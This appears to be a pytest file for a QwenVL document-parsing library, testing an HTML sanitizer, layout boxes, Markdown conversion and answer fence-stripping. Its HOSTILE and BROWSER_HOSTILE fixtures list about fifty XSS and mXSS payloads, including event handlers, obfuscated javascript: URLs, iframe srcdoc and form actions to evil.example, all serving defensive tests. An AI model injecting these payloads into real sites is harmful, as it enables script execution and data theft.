"""Document parsing: sanitizer (unit and real browser), layout boxes per family, Markdown, PDF/TIFF pages."""

from __future__ import annotations

import contextlib
import hashlib
import html as html_lib
import re
import struct
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from qvl_core import draw
from qvl_core.errors import UserError
from qvl_core.families import FAMILIES
from qvl_core.media import documents as docs
from qvl_core.media.images import smart_resize
from qvl_core.parse import html as qhtml
from qvl_core.parse import layout, markdown

# --------------------------------------------------------------------------------------------------
# Fixtures: realistic QwenVL HTML answers, one per coordinate convention.
# --------------------------------------------------------------------------------------------------

# Qwen2.5-VL: absolute pixels on the resized input (868x1120); the page itself is 1736x2240 (scale 2).
PAGE1_QWEN25 = """Sure! Here is the page in QwenVL HTML:
```html
<html><body>
<div class="header" data-bbox="60 28 420 52">Proceedings of the Workshop on Tests, 2025</div>
<h1 data-bbox="120 80 748 130">Reading Documents with Qwen-VL</h1>
<p data-bbox="60 150 808 260">We study <b>document parsing</b> with <i>vision-language</i> models.
A page costs about 1,000 visual tokens.</p>
<h2 data-bbox="60 280 300 310">1 Method</h2>
<p data-bbox="60 320 808 380">The loss is <span class="formula">$\\mathcal{L} = -\\log p(y|x)$</span> per token.</p>
<div class="formula machine_printed" data-bbox="200 400 668 460"><img data-bbox="200 400 668 460"/><div>$$\\sum_{i=1}^{n} x_i = 1$$</div></div>
<div class="image" data-bbox="100 480 768 880"><img data-bbox="110 490 758 870"/></div>
<div class="image caption" data-bbox="100 890 768 930"><p>Figure 1: Overview of the pipeline.</p></div>
<div class="footer" data-bbox="420 1080 448 1100">1</div>
</body></html>
```
I hope this helps."""  # noqa: E501

# Qwen3-VL: 0-1000 normalised; the page is 1275x1650 (letter at 150 dpi). Commas in one box, a reversed
# box that also runs off the page, a table with rowspan/colspan and a pipe, a chart with its data table.
PAGE2_QWEN3 = """```html
<html><body>
<h2 data-bbox="80 40 920 80">2 Results</h2>
<p data-bbox="80,100,920,160">Table 1 compares models; higher is better.</p>
<style>.table1 td { color: red }</style>
<table class="table1" data-bbox="80 180 920 420"><thead>
<tr><th rowspan="2">Model</th><th colspan="2">Score</th></tr>
<tr><th>DocVQA</th><th>ChartQA</th></tr></thead>
<tbody><tr><td>Qwen2.5-VL | 7B</td><td>95.7</td><td>87.3</td></tr>
<tr><td>Baseline</td><td colspan="2">n/a</td></tr></tbody></table>
<div class="chart" data-bbox="120 440 880 800"><img data-bbox="120 460 880 780"/><table><tr><td>Year</td><td>Sales</td></tr><tr><td>2024</td><td>12</td></tr></table></div>
<div class="footnote" data-bbox="1010 980 -5 960">* Measured on the test split.</div>
</body></html>
```"""  # noqa: E501

# Qwen2-VL: 0-1000 normalised; the page is 2000x1000. No fence, chemistry and music, a placeholder box,
# a block without a box, and an answer cut off mid-paragraph (max_new_tokens ran out).
PAGE3_QWEN2 = """<html><body>
<h3 data-bbox="100 50 900 90">3 Appendix</h3>
<div class="chemical formula" format="smile" data-bbox="100 100 500 200"><img data-bbox="100 100 500 200"/><div>CC(=O)OC1=CC=CC=C1C(=O)O</div></div>
<div class="music sheet" format="abc notation" data-bbox="500 100 900 300"><img data-bbox="500 100 900 300"/><div>X:1
T:Scale
K:C
CDEF GABc|</div></div>
<ol start="3" data-bbox="100 320 900 420"><li>Install the package</li><li>Run it<ul><li>on CPU</li><li>on GPU</li></ul></li></ol>
<p data-bbox="x1 y1 x2 y2">A box the model never filled in.</p>
<p>No box at all.</p>
<p data-bbox="100 900 900 990">This page was cut off in the mid"""  # noqa: E501

PAGES = {
    # name: (answer, family, input_size, image_size, expected [(kind, box, tag, depth), ...])
    "page1-qwen2_5_vl-absolute": (PAGE1_QWEN25, "qwen2_5_vl", (868, 1120), (1736, 2240), [
        ("page-header", (120.0, 56.0, 840.0, 104.0), "div", 0),
        ("heading", (240.0, 160.0, 1496.0, 260.0), "h1", 0),
        ("paragraph", (120.0, 300.0, 1616.0, 520.0), "p", 0),
        ("heading", (120.0, 560.0, 600.0, 620.0), "h2", 0),
        ("paragraph", (120.0, 640.0, 1616.0, 760.0), "p", 0),
        ("formula", (400.0, 800.0, 1336.0, 920.0), "div", 0),
        ("image", (400.0, 800.0, 1336.0, 920.0), "img", 1),
        ("image", (200.0, 960.0, 1536.0, 1760.0), "div", 0),
        ("image", (220.0, 980.0, 1516.0, 1740.0), "img", 1),
        ("image", (200.0, 1780.0, 1536.0, 1860.0), "div", 0),  # class "image caption" is an image region
        ("page-footer", (840.0, 2160.0, 896.0, 2200.0), "div", 0),
    ]),
    "page2-qwen3_vl-norm1000": (PAGE2_QWEN3, "qwen3_vl", (1008, 1312), (1275, 1650), [
        ("heading", (102.0, 66.0, 1173.0, 132.0), "h2", 0),
        ("paragraph", (102.0, 165.0, 1173.0, 264.0), "p", 0),
        ("table", (102.0, 297.0, 1173.0, 693.0), "table", 0),
        ("chart", (153.0, 726.0, 1122.0, 1320.0), "div", 0),
        ("image", (153.0, 759.0, 1122.0, 1287.0), "img", 1),
        ("footnote", (0.0, 1584.0, 1275.0, 1617.0), "div", 0),  # reversed corners swapped, clamped to the page
    ]),
    "page3-qwen2_vl-norm1000": (PAGE3_QWEN2, "qwen2_vl", (1988, 980), (2000, 1000), [
        ("heading", (200.0, 50.0, 1800.0, 90.0), "h3", 0),
        ("chemical-formula", (200.0, 100.0, 1000.0, 200.0), "div", 0),
        ("image", (200.0, 100.0, 1000.0, 200.0), "img", 1),
        ("music-sheet", (1000.0, 100.0, 1800.0, 300.0), "div", 0),
        ("image", (1000.0, 100.0, 1800.0, 300.0), "img", 1),
        ("list", (200.0, 320.0, 1800.0, 420.0), "ol", 0),
        ("paragraph", None, "p", 0),  # data-bbox="x1 y1 x2 y2": not four numbers
        ("paragraph", None, "p", 0),  # no data-bbox: still listed, so its text is not lost
        ("paragraph", (200.0, 900.0, 1800.0, 990.0), "p", 0),
    ]),
}

MARKDOWN = {
    "page1-qwen2_5_vl-absolute": """\
Proceedings of the Workshop on Tests, 2025

# Reading Documents with Qwen-VL

We study **document parsing** with *vision-language* models. A page costs about 1,000 visual tokens.

## 1 Method

The loss is $\\mathcal{L} = -\\log p(y|x)$ per token.

$$
\\sum_{i=1}^{n} x_i = 1
$$

<!-- Image (100, 480, 768, 880) -->

<!-- Image (100, 890, 768, 930) -->

Figure 1: Overview of the pipeline.

1
""",
    "page2-qwen3_vl-norm1000": """\
## 2 Results

Table 1 compares models; higher is better.

| Model | Score |  |
| --- | --- | --- |
|  | DocVQA | ChartQA |
| Qwen2.5-VL \\| 7B | 95.7 | 87.3 |
| Baseline | n/a |  |

<!-- Chart (120, 440, 880, 800) -->

| Year | Sales |
| --- | --- |
| 2024 | 12 |

\\* Measured on the test split.
""",
    "page3-qwen2_vl-norm1000": """\
### 3 Appendix

```smile
CC(=O)OC1=CC=CC=C1C(=O)O
```

```abc
X:1
T:Scale
K:C
CDEF GABc|
```

3. Install the package
4. Run it
   - on CPU
   - on GPU

A box the model never filled in.

No box at all.

This page was cut off in the mid
""",
}


# --------------------------------------------------------------------------------------------------
# Sanitizer
# --------------------------------------------------------------------------------------------------

HOSTILE = {
    "script": "<script>window.top.__pwned = 1</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "img-onerror": '<img src=x onerror="window.top.__pwned = 1">',
    "img-onerror-unquoted": "<IMG SRC=x ONERROR=alert(1)>",
    "svg-onload": '<svg onload="window.top.__pwned = 1"><circle r="4"/></svg>',
    "svg-script": "<svg><script>window.top.__pwned = 1</script></svg>",
    "body-onload": '<body onload="window.top.__pwned = 1">',
    "input-autofocus": '<input autofocus onfocus="window.top.__pwned = 1">',
    "details-ontoggle": '<details open ontoggle="window.top.__pwned = 1"><summary>x</summary></details>',
    "a-javascript": '<a href="javascript:window.top.__pwned = 1">click</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "a-javascript-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "a-javascript-hex-entities": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "a-javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "a-javascript-leading-space": '<a href=" \x01javascript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-remote": '<a href="https://evil.example/phish" target="_blank">login</a>',
    "img-data-html": '<img src="data:text/html,<script>alert(1)</script>">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style-attr-js": '<div style="background:url(javascript:alert(1))">x</div>',
    "style-attr-remote": '<p style="background-image:url(https://evil.example/bg.png);position:fixed">x</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>window.top.__pwned = 1</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "object-data-html": '<object data="data:text/html,<script>window.top.__pwned=1</script>"></object>',
    "embed": '<embed src="javascript:window.top.__pwned = 1">',
    "form": '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
    "form-javascript": '<form action="javascript:alert(1)"><input type="submit" value="go"></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "style-import": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "tracking-pixel": '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    "img-srcset": '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    "protocol-relative": '<img src="//evil.example/p.gif">',
    "math-mtext-script": "<math><mtext><script>window.top.__pwned = 1</script></mtext></math>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "video-poster": '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
    "audio": '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    "table-background": '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    "comment-conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "dom-clobber": '<form name="getElementById"></form><img name="cookie"><div id="__proto__">x</div>',
    "class-hijack": '<div class="fixed inset-0 z-50 hide gradio-container">overlay</div>',
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "mixed-case-script": "<ScRiPt>alert(1)</sCrIpT>",
    "unclosed-script": "<script>alert(1)",
    "marquee": '<marquee onstart="alert(1)">x</marquee>',
}

# Left open on purpose: like in a browser, an unclosed raw-text/foreign element takes the rest of the page with it.
UNCLOSED = {"math-mglyph-style", "unclosed-script"}
_ATTRS_OK = {"class", "data-bbox", "data-polygon", "format", "dir", "id", "src", "alt", "href", "colspan",
             "rowspan", "start", "rel"}


def assert_inert(out: str) -> None:
    """Every tag and attribute in `out` is on the allowlist, and no value can load or run anything."""
    soup = BeautifulSoup(out, "html.parser")
    for el in soup.find_all(True):
        assert el.name in qhtml.ALLOWED_TAGS, (el.name, out)
        for attr, value in el.attrs.items():
            assert attr in _ATTRS_OK, (attr, out)
            value = " ".join(value) if isinstance(value, list) else value
            if attr == "src":
                assert el.name == "img" and re.match(r"data:image/(png|jpeg|gif|webp);base64,", value), out
            if attr == "href":
                assert el.name == "a" and value.startswith("#doc-"), out
            if attr == "class":
                assert set(value.split()) <= qhtml.DOC_CLASSES, out
            if attr == "id":
                assert value.startswith(qhtml.ID_PREFIX), out


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_sanitizer_neutralises_hostile_payload(name):
    out = qhtml.sanitize_html(f"<p>before</p>{HOSTILE[name]}<p>after</p>")
    assert_inert(out)
    low = out.lower()
    for needle in ("<script", "<style", "<iframe", "<object", "<embed", "<form", "<input", "<meta", "<base", "<link",
                   "<svg", "<button", "javascript:", "vbscript:", "data:text", "http:", "https:", "//evil",
                   "style=", "srcset", "onerror", "onload", "onfocus", "ontoggle", "@import"):
        assert needle not in low, (name, needle, out)
    assert "<p>before</p>" in out
    if name not in UNCLOSED:  # a closed payload does not swallow its neighbours
        assert "<p>after</p>" in out


def test_sanitizer_keeps_document_structure():
    src = """<h1 data-bbox="1 2 3 4" class="title">T</h1><h6>six</h6>
    <div class="formula machine_printed" data-bbox="10 20 30 40" format="latex"><img data-bbox="10 20 30 40"
      alt="formula crop"/><div>$$x^2$$</div></div>
    <table data-bbox="5 5 50 50" class="table table1"><thead><tr><th colspan="2">Head</th></tr></thead>
    <tbody><tr><td rowspan="2" data-bbox="1,2,3,4">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>
    <ol start="3"><li>one</li><li>two<ul><li>deep</li></ul></li></ol>
    <p dir="rtl">x<sub>2</sub> y<sup>3</sup> <b>b</b> <i>i</i> <em>e</em> <strong>s</strong> <u>u</u> <s>s</s>
      <code>c</code></p><pre>pre</pre><blockquote>q</blockquote><hr><br>
    <figure class="image"><img src="data:image/png;base64,iVBORw0KGgo=" alt="crop"><figcaption>Fig</figcaption>
    </figure><div class="music sheet" format="abc notation">X:1</div><div data-polygon="[1,2],[3,4],[5,6]">p</div>
    <a href="#sec-2">see section 2</a><h2 id="sec-2">Two</h2>"""
    out = qhtml.sanitize_html(src)
    assert_inert(out)
    for kept in ('<h1 data-bbox="1 2 3 4" class="title">T</h1>', "<h6>six</h6>", 'format="latex"',
                 '<img data-bbox="10 20 30 40" alt="formula crop">', '<th colspan="2">Head</th>',
                 '<td rowspan="2" data-bbox="1,2,3,4">a</td>', '<ol start="3">', "<ul><li>deep</li></ul>",
                 '<p dir="rtl">', "<sub>2</sub>", "<sup>3</sup>", "<code>c</code>", "<pre>pre</pre>",
                 "<blockquote>q</blockquote>", "<hr>", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="crop">',
                 "<figcaption>Fig</figcaption>", 'class="music sheet" format="abc notation"',
                 'data-polygon="[1,2],[3,4],[5,6]"', 'href="#doc-sec-2"', 'id="doc-sec-2"',
                 'rel="noopener noreferrer"'):
        assert kept in out, (kept, out)
    assert 'class="table"' in out  # the QwenVL class survives, the per-table "table1" (styled by <style>) does not


def test_sanitizer_numeric_attributes():
    out = qhtml.sanitize_html('<table><tr><td colspan="²">a</td><td rowspan="99999">b</td><td colspan="-1">c</td>'
                           '</tr></table><ol start="1e9"><li>x</li></ol>')
    assert out == ('<table><tbody><tr><td>a</td><td rowspan="100">b</td><td>c</td></tr></tbody></table>'
                   "<ol><li>x</li></ol>")


def test_sanitizer_keeps_mathml_as_text():
    out = qhtml.sanitize_html('<p>Area <math alttext="\\pi r^2"><mi>π</mi><msup><mi>r</mi><mn>2</mn></msup></math>'
                           ' and <math><mi>x</mi><mo>=</mo><mn>1</mn></math></p>')
    assert out == '<p>Area <span class="math">\\pi r^2</span> and <span class="math">x = 1</span></p>'


def test_sanitizer_full_document_and_plain_text():
    page = strip = qhtml.strip_fences(PAGE1_QWEN25)
    out = qhtml.sanitize_html(page)
    assert "<html" not in out and "<body" not in out and out.lstrip().startswith('<div class="header"')
    assert qhtml.sanitize_html("just 1 < 2 & words") == "just 1 &lt; 2 &amp; words"
    assert qhtml.sanitize_html("") == ""
    assert strip.count("data-bbox") == out.count("data-bbox")


@pytest.mark.timeout(60)  # a hang guard, not a speed check
def test_sanitizer_refuses_pathological_nesting_quickly():
    """Regression: nh3 is quadratic in nesting depth (20k nested <div> took ~2 s, 100k took 47 s)."""
    deep = "<div>" * 30_000 + "<img src=x onerror=alert(1)>deep text"
    out = qhtml.sanitize_html(deep)
    # The depth guard answered (escaped text), so nh3 never saw the nesting.
    assert out.startswith("<pre>&lt;div&gt;") and "<img" not in out
    # Our own walks are bounded too: no RecursionError, no hang.
    assert markdown.html_to_markdown(deep) == "deep text\n"
    assert layout.extract_layout(deep, family="qwen2_5_vl", input_size=(10, 10), image_size=(10, 10)) == []
    assert markdown.html_to_text(deep) == "deep text"


@pytest.mark.timeout(60)  # quadratic behaviour on 300k tags would run far past this; linear takes seconds
def test_sanitizer_math_search_is_linear():
    """Regression guard: many unclosed "<math" tags must not make the MathML pass quadratic."""
    out = qhtml.sanitize_html("<math " * 200_000 + "</math>" + "<math>" * 100_000)
    assert "<math" not in out


def test_preview_document_and_iframe():
    doc = qhtml.preview_document('<h2 data-bbox="1 2 3 4">Hi</h2><img src="https://evil.example/p.gif">')
    assert ("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
            "style-src 'unsafe-inline'") in doc
    assert '<h2 data-bbox="1 2 3 4">Hi</h2>' in doc and "evil" not in doc
    frame = qhtml.iframe_html('<p title="a&quot;b">x & y</p><script>alert(1)</script>', height=300)
    m = re.fullmatch(r'<iframe sandbox="" referrerpolicy="no-referrer" title="Document preview" '
                     r'style="[^"<>]*height:300px[^"<>]*" srcdoc="([^"<>]*)"></iframe>', frame)
    assert m, frame  # the whole document sits inside one quoted attribute: no raw quote or angle bracket
    assert html_lib.unescape(m.group(1)) == qhtml.preview_document('<p title="a&quot;b">x & y</p>')


# --------------------------------------------------------------------------------------------------
# Real browser: nothing runs, nothing loads, with the sanitizer's output under innerHTML and in the iframe.
# --------------------------------------------------------------------------------------------------

# Payloads that would fire on their own (no click needed) if they survived, plus every way to load something.
BROWSER_HOSTILE = "\n".join([
    '<h2 data-bbox="1 2 3 4" id="marker">Survived heading</h2>',
    *HOSTILE.values(),
    '<img src="http://127.0.0.1:9/pixel.gif" onerror="document.title=\'pwned\'">',
    '<div style="background-image:url(http://127.0.0.1:9/bg.png)">bg</div>',
    '<link rel="stylesheet" href="http://127.0.0.1:9/x.css"><link rel="prefetch" href="http://127.0.0.1:9/p">',
    "<style>@import url(http://127.0.0.1:9/i.css); h2 { background: url(http://127.0.0.1:9/h.png) }</style>",
    '<iframe src="http://127.0.0.1:9/frame"></iframe><object data="http://127.0.0.1:9/o"></object>',
    '<svg><image href="http://127.0.0.1:9/svg.png"/><animate onbegin="window.top.__pwned=1" attributeName="x"/></svg>',
    '<video src="http://127.0.0.1:9/v.mp4" autoplay onerror="window.top.__pwned=1"></video>',
    '<input type="image" src="http://127.0.0.1:9/in.png"><body background="http://127.0.0.1:9/b.png">',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/refresh">',
    '<base href="http://127.0.0.1:9/base/"><a id="rel" href="relative">relative</a>',
    '<img src="x" onerror="document.title=\'pwned\'">',
])
# What the probes must catch: an auto-firing handler and a remote load (port 9: refused at once, never leaves the box).
CONTROL = ('<img src="x" onerror="window.top.__pwned = 1; document.title = \'pwned\'">'
           '<img src="http://127.0.0.1:9/control.gif">')
BLANK_PAGE = "<html><head><title>clean</title></head><body>{body}<div id='host'></div></body></html>"


def _dismiss(dialog) -> None:
    from playwright.sync_api import Error as PlaywrightError

    with contextlib.suppress(PlaywrightError):  # the page may already be gone when a payload navigated it
        dialog.dismiss()


def test_hostile_html_is_inert_in_a_real_browser(page):
    # Positive control: the raw payloads DO run and DO load under innerHTML, so the probes below work.
    control = page.context.new_page()
    control_requests: list[str] = []
    control.on("request", lambda r: control_requests.append(r.url))
    control.set_content(BLANK_PAGE.format(body=""))
    control.evaluate("h => { document.getElementById('host').innerHTML = h; }", CONTROL)
    control.wait_for_function("window.__pwned === 1 && document.title === 'pwned'", timeout=10_000)
    control.wait_for_timeout(300)
    assert "http://127.0.0.1:9/control.gif" in control_requests, control_requests
    control.close()

    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), _dismiss(d)))
    page.set_content(BLANK_PAGE.format(body=qhtml.iframe_html(BROWSER_HOSTILE, height=400)))
    page.evaluate("h => { document.getElementById('host').innerHTML = h; }",
                  qhtml.sanitize_html(BROWSER_HOSTILE))
    page.wait_for_timeout(1000)
    for link in page.locator("#host a").all():  # fragment links only; clicking them must do nothing
        link.click(no_wait_after=True)
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwned") is None
    assert page.title() == "clean"
    assert dialogs == []
    assert [u for u in requests if not u.startswith(("about:", "data:image/"))] == []
    # The structure itself did arrive: in the host page and inside the sandboxed iframe.
    assert page.locator("#host h2").first.inner_text() == "Survived heading"
    assert page.frame_locator("iframe").locator("h2").first.inner_text() == "Survived heading"


# --------------------------------------------------------------------------------------------------
# Finding the HTML in an answer
# --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("answer", "expected"), [
    ("Here you go:\n```html\n<html><body><p>x</p></body></html>\n```\nAnything else?",
     "<html><body><p>x</p></body></html>"),
    ("```HTML\n<p>cut off mid-docu", "<p>cut off mid-docu"),  # never closed: max_new_tokens ran out
    ("```html<html><body><p>glued</p></body></html>```", "<html><body><p>glued</p></body></html>"),
    ("```\n<div>no language</div>\n```", "<div>no language</div>"),
    ("```json\n[1, 2]\n```\nand the page:\n```html\n<p>y</p>\n```", "<p>y</p>"),
    ("<think>Let me look. ```html <p>draft</p>```</think>\n```html\n<p>final</p>\n```", "<p>final</p>"),
    ("reasoning without an opening tag</think><html><body><p>z</p></body></html>",
     "<html><body><p>z</p></body></html>"),
    ("Sure. <!DOCTYPE html><html><body><p>a</p></body></html> Done.",
     "<!DOCTYPE html><html><body><p>a</p></body></html>"),
    ("The page shows a cat.", "The page shows a cat."),
    ("", ""),
])
def test_strip_fences(answer, expected):
    assert qhtml.strip_fences(answer) == expected


@pytest.mark.parametrize(("text", "expected"), [
    (PAGE1_QWEN25, True), (PAGE3_QWEN2, True), ("<p>hi</p>", True), ('<x data-bbox="1 2 3 4">', True),
    ("The invoice total is 42 EUR.", False), ("a < b and c > d", False), ("# Title\n\n| a | b |", False),
])
def test_looks_like_html(text, expected):
    assert qhtml.looks_like_html(text) is expected


# --------------------------------------------------------------------------------------------------
# Layout
# --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(PAGES))
def test_extract_layout_per_family(name):
    answer, family, input_size, image_size, expected = PAGES[name]
    blocks = layout.extract_layout(qhtml.strip_fences(answer), family=family, input_size=input_size,
                               image_size=image_size, page=7)
    assert [(b.kind, b.box, b.tag, b.depth) for b in blocks] == expected
    assert all(b.page == 7 for b in blocks)
    # Same answer through the FamilySpec object rather than its model_type.
    again = layout.extract_layout(qhtml.strip_fences(answer), family=FAMILIES[family], input_size=input_size,
                              image_size=image_size, page=7)
    assert again == blocks


def test_layout_text_and_json():
    blocks = layout.extract_layout(qhtml.strip_fences(PAGE2_QWEN3), family="qwen3_vl", input_size=(1, 1),
                               image_size=(1275, 1650), page=2)
    table = blocks[2]
    assert table.text == "Model Score DocVQA ChartQA Qwen2.5-VL | 7B 95.7 87.3 Baseline n/a"
    assert "color" not in table.text  # the <style> before the table is not text
    assert table.to_json() == {"kind": "table", "box": [102.0, 297.0, 1173.0, 693.0], "text": table.text,
                               "tag": "table", "page": 2, "depth": 0}
    assert layout.extract_layout("<p>x</p>", family="qwen2_vl", input_size=(1, 1),
                             image_size=(1, 1))[0].to_json()["box"] is None


def test_absolute_boxes_follow_the_real_resize():
    """Qwen2.5-VL: a box covering the whole resized input maps to the whole original page."""
    w, h = 1654, 2339  # A4 at 200 dpi
    ih, iw = smart_resize(h, w, factor=28, min_pixels=4 * 784, max_pixels=1280 * 784)
    assert (iw, ih) != (w, h)
    html = f'<p data-bbox="0 0 {iw} {ih}">all</p><p data-bbox="{iw / 2} {ih / 4} {iw + 50} {ih + 50}">q</p>'
    full, quarter = layout.extract_layout(html, family="qwen2_5_vl", input_size=(iw, ih), image_size=(w, h))
    assert full.box == (0.0, 0.0, float(w), float(h))
    assert quarter.box == (827.0, round(h / 4, 2), float(w), float(h))  # clamped at the page edge


@pytest.mark.parametrize(("bbox", "expected"), [
    ("10 20 30 40", (10.0, 20.0, 30.0, 40.0)),
    ("10,20,30,40", (10.0, 20.0, 30.0, 40.0)),
    (" [10, 20, 30, 40] ", (10.0, 20.0, 30.0, 40.0)),
    ("(10.5,20) (30,40)", (10.5, 20.0, 30.0, 40.0)),
    ("30 40 10 20", (10.0, 20.0, 30.0, 40.0)),  # reversed corners
    ("-5 -5 2000 2000", (0.0, 0.0, 100.0, 100.0)),  # clamped
    ("x1 y1 x2 y2", None), ("1 2 3", None), ("1 2 3 4 5", None), ("", None), ("1e999 0 1 1", None),
    ("nan 1 2 3", None),
])
def test_bbox_attribute_forms(bbox, expected):
    (block,) = layout.extract_layout(f'<p data-bbox="{bbox}">t</p>', family="qwen2_5_vl", input_size=(100, 100),
                                 image_size=(100, 100))
    assert block.box == expected


def test_layout_kinds_from_class_and_tag():
    html = """<div class="table caption" data-bbox="1 1 2 2">c</div>
    <div class="formula handwritten" data-bbox="1 1 2 2">f</div><div class="page-header" data-bbox="1 1 2 2">h</div>
    <div class="page_footer" data-bbox="1 1 2 2">f</div>
    <header data-bbox="1 1 2 2">h</header><footer data-bbox="1 1 2 2">f</footer><div class="image ocr"
    data-bbox="1 1 2 2"><p>t</p></div><figure data-bbox="1 1 2 2"></figure><section data-bbox="1 1 2 2">s</section>
    <ul data-bbox="1 1 2 2"><li data-bbox="1 1 2 2">i</li></ul><div class="text" data-bbox="1 1 2 2">t</div>
    <span class="weird" data-bbox="1 1 2 2">w</span>"""
    kinds = [(b.kind, b.depth) for b in layout.extract_layout(html, family="qwen2_vl", input_size=(1, 1),
                                                          image_size=(1000, 1000))]
    assert kinds == [("caption", 0), ("formula", 0), ("page-header", 0), ("page-footer", 0), ("page-header", 0),
                     ("page-footer", 0), ("image", 0), ("image", 0), ("section", 0), ("list", 0), ("li", 1),
                     ("paragraph", 0), ("span", 0)]


@pytest.mark.parametrize(("cls", "kind"), [("image caption", "image"), ("image_caption", "caption"),
                                           ("table caption", "caption"), ("caption", "caption")])
def test_image_caption_class_is_an_image(cls, kind):
    """Regression: QwenVL marks an image region with class "image caption"; it was laid out (and coloured, and
    converted) as a caption because a class ending in "caption" won over the image class."""
    html = f'<div class="{cls}" data-bbox="1 1 2 2"><img data-bbox="1 1 2 2"/><p>Figure 2</p></div>'
    blocks = layout.extract_layout(html, family="qwen2_vl", input_size=(1, 1), image_size=(1000, 1000))
    assert [(b.kind, b.depth) for b in blocks][:1] == [(kind, 0)]


def test_extract_layout_rejects_bad_sizes_and_unknown_family():
    with pytest.raises(ValueError, match="positive"):
        layout.extract_layout("<p>x</p>", family="qwen2_vl", input_size=(0, 10), image_size=(10, 10))
    with pytest.raises(UserError, match="Unsupported model type"):
        layout.extract_layout("<p>x</p>", family="llava", input_size=(10, 10), image_size=(10, 10))


def test_draw_layout_colours_boxes_by_kind():
    page = Image.new("RGB", (400, 300), (255, 255, 255))
    blocks = [layout.LayoutBlock("table", (50.0, 100.0, 350.0, 250.0), "t", "table"),
              layout.LayoutBlock("heading", (10.0, 0.0, 200.0, 40.0), "h", "h1"),
              layout.LayoutBlock("paragraph", None, "p", "p"),
              layout.LayoutBlock("mystery", (300.0, 10.0, 390.0, 60.0), "?", "x")]
    out = draw.draw_layout(page, blocks)
    assert out.size == page.size and out is not page
    assert page.getpixel((50, 200)) == (255, 255, 255)  # the input is untouched
    assert out.getpixel((50, 200)) == draw.KIND_COLORS["table"]  # left edge of the table box
    assert out.getpixel((390, 40)) == draw.DEFAULT_KIND_COLOR
    tag = out.crop((50, 80, 100, 100))  # the kind tag sits just above the table box, in the kind's colour
    assert any(_near(c, draw.KIND_COLORS["table"], 40) for _, c in tag.getcolors(10_000))
    assert out.getpixel((200, 175)) != (255, 255, 255)  # light fill inside
    rgba = draw.draw_layout(Image.new("RGBA", (20, 20)), [])
    assert rgba.mode == "RGB"


# --------------------------------------------------------------------------------------------------
# Markdown and text
# --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", sorted(MARKDOWN))
def test_markdown_of_realistic_pages(name):
    assert markdown.html_to_markdown(qhtml.strip_fences(PAGES[name][0])) == MARKDOWN[name]


def _gfm_tables(md: str) -> list[list[list[str]]]:
    """Parse pipe tables with markdown-it (a real CommonMark/GFM parser) into rows of cell texts."""
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)
    soup = BeautifulSoup(rendered, "html.parser")
    return [[[c.get_text() for c in tr.find_all(["th", "td"])] for tr in t.find_all("tr")] for t in soup("table")]


def test_markdown_tables_are_valid_gfm():
    md = markdown.html_to_markdown(qhtml.strip_fences(PAGE2_QWEN3))
    results, chart = _gfm_tables(md)
    assert results == [["Model", "Score", ""], ["", "DocVQA", "ChartQA"], ["Qwen2.5-VL | 7B", "95.7", "87.3"],
                       ["Baseline", "n/a", ""]]
    assert chart == [["Year", "Sales"], ["2024", "12"]]


def test_markdown_table_edge_cases():
    html = """<table><caption>Table 2: Odd cells</caption>
    <tr><td>a|b</td><td><span class="formula">$|x|$</span></td><td rowspan="3">tall</td></tr>
    <tr><td colspan="99999">wide</td></tr>
    <tr><td><p>para one</p><p>para two</p></td><td>line<br>break</td></tr>
    <tr><td>*star* _under_ `tick`</td></tr></table>"""
    md = markdown.html_to_markdown(html)
    assert md.startswith("Table 2: Odd cells\n\n| ")
    (table,) = _gfm_tables(md)
    assert len({len(r) for r in table}) == 1  # every row has the same number of cells
    assert table[0][:3] == ["a|b", "$|x|$", "tall"]
    assert table[1][0] == "wide" and table[1][2] == ""
    assert table[2][0] == "para onepara two" and table[2][1] == "linebreak"  # <br> inside a cell
